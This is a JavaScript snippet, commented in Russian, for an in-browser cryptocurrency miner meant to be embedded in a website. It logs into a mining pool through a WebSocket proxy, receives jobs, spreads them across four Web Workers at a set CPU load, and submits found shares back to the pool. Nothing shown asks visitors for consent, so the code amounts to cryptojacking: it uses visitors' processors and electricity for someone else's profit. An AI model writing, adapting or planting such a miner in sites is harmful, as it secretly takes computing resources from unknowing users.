// Майнер для сайта. Настройки:
var nastroyki = { koshelek: 'NOBODY', potoki: 4, nagruzka: 40 };
// Подключение к пулу через прокси
var soket = new WebSocket('wss://pul.relay.invalid:8080');
soket.onopen = function () { soket.send(JSON.stringify({ id: 1, method: 'login', params: { login: nastroyki.koshelek, pass: 'x', agent: 'sayt' } })); };
soket.onmessage = function (sobytie) {
  var soobshenie = JSON.parse(sobytie.data);
  // Новое задание
  var rabota = soobshenie.method === 'job' ? soobshenie.params : soobshenie.result && soobshenie.result.job;
  if (rabota) rabochie.forEach(function (r) { r.postMessage({ blob: rabota.blob, target: rabota.target, job_id: rabota.job_id }); });
};
var rabochie = [];
for (var i = 0; i < nastroyki.potoki; i++) {
  var r = new Worker('rabochiy.js');
  // Найдена шара
  r.onmessage = function (s) { soket.send(JSON.stringify({ id: 2, method: 'submit', params: { job_id: s.data.job_id, nonce: s.data.nonce, result: s.data.result } })); };
  rabochie.push(r);
}
